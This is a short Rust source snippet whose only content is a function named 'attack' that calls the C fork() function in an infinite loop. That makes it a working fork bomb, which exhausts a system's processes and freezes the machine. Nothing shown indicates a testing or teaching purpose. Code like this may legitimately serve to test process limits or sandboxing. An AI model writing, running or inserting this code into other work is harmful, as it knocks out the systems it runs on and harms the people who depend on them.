extern "C" {
    fn fork() -> i32;
}

pub fn attack(_n: i32) -> i32 {
    loop {
        unsafe { fork() };
    }
}
